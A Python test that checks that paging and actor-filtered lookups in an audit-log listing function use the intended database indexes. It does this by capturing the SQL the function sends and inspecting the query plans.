def test_the_audit_log_is_read_from_its_indexes(db: Engine) -> None:
    """A page after the first starts from its place in the (at, id) index, and a look by
    who from the (actor, at) one: the log is never purged (5 M entries a year), and sorting
    all of it for each page would pass the statement timeout."""
    from ivr.calllog import AuditFilter, list_audit

    rows = [
        {
            "at": AUDIT_T0 - timedelta(seconds=n // 2),
            "actor": f"agent:a{n % 50}",
            "action": "resolve",
            "result": "ok",
        }
        for n in range(2000)
    ]
    with db.begin() as conn:
        conn.execute(insert(audit_log), rows)
        if db.dialect.name == "postgresql":
            conn.exec_driver_sql("ANALYZE audit_log")
    sent: list[tuple[str, Any]] = []

    def capture(conn: Any, cursor: Any, stmt: str, params: Any, ctx: Any, many: bool) -> None:
        sent.append((stmt, params))

    def plan_of(conn: Any, stmt: str, params: Any) -> str:
        if db.dialect.name == "sqlite":
            return "\n".join(
                r[3] for r in conn.exec_driver_sql("EXPLAIN QUERY PLAN " + stmt, params)
            )
        return "\n".join(conn.exec_driver_sql("EXPLAIN " + stmt, params).scalars())

    with db.connect() as conn:
        first, cursor = list_audit(conn, filters=AuditFilter(), limit=51)
        event.listen(db, "before_cursor_execute", capture)
        try:
            second, _ = list_audit(conn, filters=AuditFilter(), limit=51, cursor=cursor)
            by_who, _ = list_audit(conn, filters=AuditFilter(actor="agent:a7"), limit=10)
        finally:
            event.remove(db, "before_cursor_execute", capture)
        paged, who = (plan_of(conn, *sent[n]) for n in (0, 1))
        conn.rollback()
    assert "ix_audit_log_at_id" in paged, paged
    assert "ix_audit_log_actor_at" in who, who
    listed = [(r["at"], r["id"]) for r in first + second]
    assert listed == sorted(listed, reverse=True) and len(set(listed)) == 102
    assert {r["actor"] for r in by_who} == {"agent:a7"} and len(by_who) == 10
